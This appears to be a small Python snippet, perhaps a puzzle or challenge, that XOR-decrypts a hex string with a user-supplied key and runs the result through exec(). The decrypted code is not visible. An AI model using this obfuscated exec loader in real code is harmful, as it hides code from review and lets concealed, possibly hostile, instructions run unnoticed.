HELD = "b5d925ed89c9e2c222e68f95e28246"


def begin(key):
    key = bytes.fromhex(key)
    held = bytearray.fromhex(HELD)
    text = bytearray([held[i] ^ key[i % 6] for i in range(0, len(held))]).decode("ascii")
    exec(text)
